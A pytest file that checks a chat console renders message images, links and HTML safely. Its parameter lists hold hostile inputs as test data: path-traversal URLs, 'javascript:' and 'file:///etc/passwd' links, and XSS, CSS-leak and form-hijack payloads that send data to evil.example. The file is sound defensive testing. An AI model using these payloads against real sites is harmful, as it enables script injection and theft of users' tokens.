"""Messages on a page: which addresses are fetched from, and which are links, or text."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.live import Caller
from tests.server.console.visiting import Seen, Visitor, of_app

ID = "0" * 26


def shown(app: Caller, content: dict[str, object]) -> Seen:
    """The page of a conversation in which somebody said this."""
    conversation = app.conversation()
    answer = app.post(app.messages(conversation), {"author": {"type": "business"}, "content": content})
    visitor = Visitor(app.url)
    visitor.sign_in(app)
    page = visitor.see(of_app(app, f"/conversations/{conversation}"))
    assert (answer.status in (201, 400), page.status) == (True, 200), answer
    return Seen(page.body)


@pytest.mark.parametrize("path", [f"/attachments/v2/{ID}/a.png", f"/sc/attachments/v2/{ID}/a%20b.png"])
def test_a_picture_of_ours_is_shown_from_here(app: Caller, path: str) -> None:
    for base in (app.url, "http://localhost:1", "https://127.0.0.1"):
        assert path in shown(app, {"type": "image", "mediaUrl": base + path}).values("src")


@pytest.mark.parametrize(
    "address",
    [
        "{url}/console/apps/{app}/live",  # each would be a connection that is kept open
        "{url}/attachments/v2/../../console/apps/{app}/live",
        "{url}/attachments/v2/%2e%2e/%2e%2e/console/apps/{app}/live",
        "{url}/attachments/v2/" + ID + "/..%5c..%5c..%5cconsole",
        "{url}/attachments/v2/" + ID + "/..\\..\\..\\console",
        "{url}/attachments/v2/" + ID + "/../../../console",
        "{url}//attachments/v2/" + ID + "/a.png",
        "http://evil.example/attachments/v2/" + ID + "/a.png",
        "http://{host}@evil.example/attachments/v2/" + ID + "/a.png",
        "http://evil.example\\@{host}/attachments/v2/" + ID + "/a.png",
        "http://localhost.evil.example/attachments/v2/" + ID + "/a.png",
        "http://a\u2100b/attachments/v2/" + ID + "/a.png",
        "http://[::1/attachments/v2/" + ID + "/a.png",
    ],
)
def test_nothing_else_is_fetched_by_looking_at_it(app: Caller, address: str) -> None:
    said = address.format(url=app.url, app=app.app_id, host=urlsplit(app.url).netloc)
    fetched = shown(app, {"type": "image", "mediaUrl": said}).values("src")
    fetched += shown(app, {"type": "file", "mediaUrl": said}).values("src")
    for each in fetched:
        path = urlsplit(each).path
        assert each == path
        assert path.startswith(("/console/assets/", "/attachments/v2/" + ID)), each
        assert not {"..", "%2e%2e"} & set(path.lower().split("/"))


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"]
)
def test_what_a_browser_should_not_go_to_is_no_link(app: Caller, address: str) -> None:
    action = {"type": "link", "text": "press", "uri": address}
    seen = shown(app, {"type": "text", "text": "x", "actions": [action]})
    seen_too = shown(app, {"type": "text", "htmlText": f'<a href="{address}">x</a><a href="java&#10;script:x">y</a>'})
    for href in (*seen.values("href"), *seen_too.values("href")):
        assert urlsplit(href).scheme in ("", "http", "https"), href


@pytest.mark.parametrize(
    "html",
    [
        '<style>input[value^="a"]{background:url(//evil.example)}</style><p style="color:red" class="told">x</p>',
        '<form action="//evil.example"><input name="token"><button formaction="//evil.example">x</button></form>',
        '<div id="composer" name="token" data-press="reply" data-id="x" dir="rtl">x</div>',
        '<a href="x" onclick="alert(1)" target="_self" rel="opener" ping="//evil.example" download>x</a>',
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        "<svg><script>alert(1)</script><foreignObject><iframe src=//evil.example>",
        "</div></article></li></ol><h1>Sign in</h1><base href=//evil.example><meta http-equiv=refresh content=0>",
        '<img src="//evil.example/a.png"><picture><source srcset="//evil.example"></picture>',
        "<p>" * 500,
    ],
)
def test_html_of_a_message_says_and_does_nothing(app: Caller, html: str) -> None:
    before, seen = shown(app, {"type": "text", "text": "x"}), shown(app, {"type": "text", "htmlText": html})

    def structure(page: Seen) -> list[tuple[str, object]]:
        kinds = {"form", "input", "button", "ol", "li", "article", "script", "link", "meta", "base", "style", "img"}
        chat = next(place for place, (_, said) in enumerate(page.elements) if said.get("id") == "messages")
        return [(tag, said.get("name")) for tag, said in page.elements[chat:] if tag in kinds]

    assert structure(before) == structure(seen)
    inside = [said for tag, said in seen.elements if any("evil.example" in str(each) for each in said.values())]
    assert all(set(said) <= {"aria-label"} for said in inside), inside
    ids = [str(each) for each in seen.values("id")]
    assert len(ids) == len(set(ids))
